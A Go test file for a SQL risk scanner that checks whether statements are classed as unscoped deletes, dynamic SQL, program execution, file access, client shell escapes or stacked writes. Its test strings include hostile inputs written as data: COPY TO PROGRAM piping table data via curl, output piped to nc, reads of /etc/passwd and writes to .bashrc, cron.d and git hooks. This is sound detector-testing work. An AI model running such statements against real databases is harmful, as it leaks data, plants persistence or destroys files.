package sqlscan

import "testing"

// TestWhatSQLDoes checks the kinds that say what a statement does rather
// than what verb it starts with: tautological WHEREs, dynamic SQL,
// programs, files and client escapes.
func TestWhatSQLDoes(t *testing.T) {
	cases := []struct {
		want      string
		spellings []string
	}{
		{DeleteNoWhere, []string{
			"DELETE FROM t WHERE 1=1", "delete from t where true", "DELETE FROM t WHERE 'x' = 'x'",
			"DELETE FROM t WHERE id = 4 OR 2 > 1", "delete from t where (1 = 1)", "DELETE FROM t WHERE NOT false",
			"DELETE FROM t WHERE 1", "DELETE FROM t WHERE id = id", "DELETE FROM t WHERE 1 <> 0 RETURNING *",
			"DELETE FROM t WHERE 1=1 AND 2=2",
			"DELETE FROM accounts WHERE id IS NOT NULL", "delete from t where a is null or a is not null",
			"DELETE FROM t WHERE name LIKE '%'",
			"DELETE FROM users WHERE id > 0", "DELETE FROM t WHERE rowid > 0", "delete from t where t.id >= 1",
			"DELETE FROM t WHERE 0 < id", "DELETE FROM orders WHERE created_at > '1970-01-01'",
			"DELETE FROM t WHERE ts >= '1900-01-01 00:00:00'", "DELETE FROM t WHERE EXISTS (SELECT 1)",
		}},
		{UpdateNoWhere, []string{"UPDATE t SET a=1 WHERE 1=1", "update t set a = 0 where TRUE or id = 3"}},
		{Dynamic, []string{
			"EXECUTE stmt", "execute immediate 'x'", "PREPARE s FROM @q", "EXEC('DROP TABLE t')",
			"DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$", "\\i /tmp/x.sql", ".read cleanup.sql", "source dump.sql",
		}},
		{Program, []string{
			"COPY t TO PROGRAM 'curl -d @- https://example.org'", "copy t from program 'id'", "\\copy t to program 'gzip > x'",
			"SELECT load_extension('/tmp/x.so')", ".load ./ext", "LOAD '/tmp/x.so'",
		}},
		{FileAccess, []string{
			"SELECT readfile('/etc/passwd')", "select writefile('x.sh', 'id')", "SELECT LOAD_FILE('/etc/hosts')",
			"SELECT * FROM t INTO OUTFILE '/tmp/t.csv'", "SELECT pg_read_file('/etc/passwd')", "COPY t TO '/tmp/t.csv'",
			"COPY t FROM '/tmp/in.csv'", "ATTACH DATABASE '/tmp/x.db' AS x", "VACUUM INTO '/tmp/copy.db'",
			"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "\\o /tmp/out.txt", ".output /tmp/o.txt", ".restore main old.db",
			// \g and \gx write the result to a file as \o does.
			"SELECT 1 \\g /root/.bashrc", "SELECT 'id' \\gx ~/.profile", "\\g (format=unaligned) /etc/cron.d/x",
			"SELECT 1 \\g ../out.txt", "SELECT 1 \\g .git/hooks/pre-commit",
		}},
		{Drop, []string{"\\lo_unlink 16384"}},
		{Admin, []string{"\\password postgres"}},
		{ClientShell, []string{
			"\\! rm -rf /tmp/x", ".shell id", ".system ls", "system ls -la", "\\o | mail x@example.org",
			".once |sh", ".output '|nc example.org 9'", "\\g | sh", "pager less; ", ".import '|cat /etc/passwd' t",
		}},
		{DeleteNoWhere, []string{"DO $$ BEGIN DELETE FROM t; END $$", "CREATE FUNCTION f() RETURNS void AS $f$ DELETE FROM t $f$ LANGUAGE sql"}},
	}
	for _, c := range cases {
		for _, sql := range c.spellings {
			if r := Scan(sql); !r.Has(c.want) {
				t.Errorf("%q: got %v, want %s", sql, r.Kinds(), c.want)
			}
		}
	}
	for _, sql := range []string{
		"DELETE FROM t WHERE id = 1", "DELETE FROM t WHERE 1=1 AND id = 3", "UPDATE t SET a = 1 WHERE a = 2",
		"DELETE FROM t WHERE x > 1", "DELETE FROM t WHERE deleted_at IS NULL",
		"DELETE FROM t WHERE id > 100", "DELETE FROM t WHERE id >= 2", "DELETE FROM t WHERE created_at > '2024-01-01'",
		"DELETE FROM t WHERE created_at < '1970-01-01'", "DELETE FROM t WHERE EXISTS (SELECT 1 FROM s WHERE s.t = t.id)",
		"DELETE FROM t WHERE x > 0", "DELETE FROM t WHERE name LIKE 'a%'", "SELECT 1 WHERE 1=1", "COPY t TO STDOUT", "\\copy t to stdout",
		"\\d users", "\\dt", ".tables", ".schema", "SELECT * FROM t", "PREPARE s AS SELECT 1",
		"SELECT 'readfile(x)'", "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", "\\x", ".headers on", ".mode csv",
		"SELECT 1 \\g", "SELECT 1 \\gx", "SELECT 1 \\g (format=csv)", "SELECT 1 \\g out/result.csv",
	} {
		r := Scan(sql)
		for _, k := range []string{DeleteNoWhere, UpdateNoWhere, Dynamic, Program, FileAccess, ClientShell} {
			if r.Has(k) {
				t.Errorf("%q: got %v, want none of the risky kinds", sql, r.Kinds())
			}
		}
	}
}

// TestSequenceFunctionsWrite: setval() sets a sequence's next value and
// nextval() advances it, so a SELECT of either is no read; currval()
// only reads.
func TestSequenceFunctionsWrite(t *testing.T) {
	for _, sql := range []string{"SELECT setval('users_id_seq', 1)", "select nextval('orders_id_seq')", "SELECT pg_catalog.setval('s', 1, false)"} {
		if Scan(sql).ReadOnly() {
			t.Errorf("%q reads as a read", sql)
		}
	}
	if sql := "SELECT currval('users_id_seq')"; !Scan(sql).ReadOnly() {
		t.Errorf("%q does not read as a read", sql)
	}
}

// TestReadOnlyBatches checks that a batch of reads is not a stacked write,
// and that one write among them is.
func TestReadOnlyBatches(t *testing.T) {
	for _, sql := range []string{
		"USE app; SHOW TABLES", "SELECT 1; SELECT 2;", "\\d\nSELECT count(*) FROM t;", "BEGIN; SELECT 1; COMMIT",
		"EXPLAIN SELECT 1; SELECT 2", ".tables\n.schema t\nSELECT 1;", "PRAGMA table_info(t); SELECT 1",
		"SET search_path = app; SELECT 1",
	} {
		if r := Scan(sql); r.Has(StackedWrite) {
			t.Errorf("%q: a batch of reads: %v", sql, r.Kinds())
		}
	}
	for _, sql := range []string{
		"SELECT 1; INSERT INTO t VALUES (1)", "USE app; DELETE FROM t WHERE id = 1", "SELECT 1; EXPLAIN ANALYZE DELETE FROM t",
		"SELECT 1; PRAGMA writable_schema = 1", "SHOW TABLES; CREATE TABLE x (a int)", "SELECT 1 INTO x; SELECT 2",
	} {
		if r := Scan(sql); !r.Has(StackedWrite) {
			t.Errorf("%q: a batch with a write: %v", sql, r.Kinds())
		}
	}
	// ANALYZE refreshes statistics only: beside reads it is no write;
	// beside a write the batch is still one.
	for _, sql := range []string{"ANALYZE; EXPLAIN QUERY PLAN SELECT * FROM t", "ANALYZE VERBOSE t; SELECT 1", "ANALYZE TABLE t; SHOW INDEX FROM t"} {
		if r := Scan(sql); r.Has(StackedWrite) {
			t.Errorf("%q: statistics and reads: %v", sql, r.Kinds())
		}
	}
	for _, sql := range []string{"ANALYZE; INSERT INTO t VALUES (1)", "ANALYZE t; UPDATE t SET a = 1 WHERE id = 2", "ANALYZE; VACUUM"} {
		if r := Scan(sql); !r.Has(StackedWrite) {
			t.Errorf("%q: statistics beside a write: %v", sql, r.Kinds())
		}
	}
	r := Scan("\\! rm -rf /tmp/x\nSELECT 1;")
	if len(r.Statements) < 2 || r.Statements[0].Shell != "rm -rf /tmp/x" {
		t.Errorf("the client escape's shell command: %+v", r.Statements)
	}
}
